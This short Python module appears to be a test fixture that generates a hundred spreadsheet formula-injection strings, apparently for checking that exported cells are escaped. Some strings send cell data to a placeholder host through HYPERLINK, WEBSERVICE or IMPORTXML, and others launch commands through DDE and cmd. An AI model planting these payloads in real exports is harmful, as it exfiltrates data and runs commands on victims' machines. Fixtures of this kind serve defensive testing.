"""A hundred texts that a spreadsheet would run, as people who mean harm write them."""

from __future__ import annotations

from itertools import product
from typing import Final

_BODIES: Final = (
    "1+1",
    "SUM(1,2)",
    'HYPERLINK("http://x.example/?x="&A1,"ok")',
    "cmd|' /C calc'!A0",
    'IMPORTXML("http://x.example/","//a")',
    'WEBSERVICE("http://x.example/")',
    '"a"&"b"',
    'INDIRECT("A1")',
)
_STARTS: Final = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", " =", "\n=", "'=")
PAYLOADS: Final = (
    *(f"{start}{body}" for start, body in product(_STARTS, _BODIES)),
    "|calc",
    "{=1+1}",
    '=DDE("cmd";"/C calc";"x")',
    "=1+1;=2+2",
)
"""A hundred of them; none may come out as anything but what it is."""
